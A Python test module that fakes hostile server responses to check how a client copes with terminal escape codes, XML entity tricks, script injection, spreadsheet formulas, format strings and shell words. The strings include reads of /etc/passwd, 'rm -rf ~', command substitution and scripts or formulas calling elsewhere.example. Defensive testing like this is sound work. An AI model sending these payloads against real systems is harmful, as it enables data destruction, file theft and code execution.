"""Targets whose text is meant for whatever shows it: a terminal, a browser, an XML parser, a spreadsheet."""

# ruff: noqa: ARG001 - a target takes the call, whether it looks at it or not

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.hostile.catalogue import JSON, Call, Step, framed, hostile


def _saying(call: Call, text: str) -> bytes:
    """Where a success is due, one with that text beside it; elsewhere a refusal with the text for its code."""
    note = "".join(character for character in text if character.isprintable()).encode("latin-1", "replace")
    headers = (*call.right.headers, (b"X-Note", note))
    if call.valid:
        body = json.dumps({**json.loads(call.right.body), "note": text}, ensure_ascii=False)
    else:
        body = json.dumps({"status_code": text, text: text}, ensure_ascii=False)
    return framed(call.right.status, body.encode("utf-8", "surrogatepass"), headers)


@hostile(always=(1,))
def commands_the_terminal(call: Call) -> Iterator[Step]:
    """Puts escape sequences where a code is due: clear the screen, set the title, hide what follows."""
    yield _saying(call, "\x1b[2J\x1b]0;owned\x07\x1b[8m\x9b31m\x1bP\x1b\\\x85\u2028\u202eKO\u202c\b\b\r\n")


@hostile(always=(1,))
def breaks_xml(call: Call) -> Iterator[Step]:
    """Puts what XML forbids where a code is due: NUL, other control characters, U+FFFE, the end of CDATA."""
    yield _saying(
        call, "\x00\x01\x0b\x0c\x0e\x1f\x7f\x80\ufffe\uffff]]><!--&nbsp;&#0;<!ENTITY x SYSTEM 'file:///etc/passwd'>"
    )


@hostile(always=(1,))
def injects_markup(call: Call) -> Iterator[Step]:
    """Puts script where a code is due."""
    yield _saying(call, "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'`{{7*7}}${7*7}[bold]x[/bold]")


@hostile(always=(1,))
def injects_formulas(call: Call) -> Iterator[Step]:
    """Puts spreadsheet formulas where a code is due."""
    yield _saying(call, "=HYPERLINK(\"http://elsewhere.example/\"&A1)\t+1\n-1\n@SUM(1)|cmd'/c calc'!A0")


@hostile(always=(1,))
def injects_formats(call: Call) -> Iterator[Step]:
    """Puts format strings, paths and shell words where a code is due."""
    yield _saying(call, "%s%n{0.__class__}{}$(touch /tmp/owned)`id`';../../../../etc/passwd\\..\\x; rm -rf ~ #")


@hostile()
def sends_a_page(call: Call) -> Iterator[Step]:
    """Sends HTML that calls itself JSON."""
    yield framed(200, b"<!doctype html><script src=//elsewhere.example/x.js></script>", JSON)


@hostile()
def tells_its_traceback(call: Call) -> Iterator[Step]:
    """Crashes, and shows where."""
    page = b'Traceback (most recent call last):\n  File "/srv/app/views.py", line 41, in answer\n' + b"x" * 100_000
    yield framed(500, page, ((b"Content-Type", b"text/plain"),))
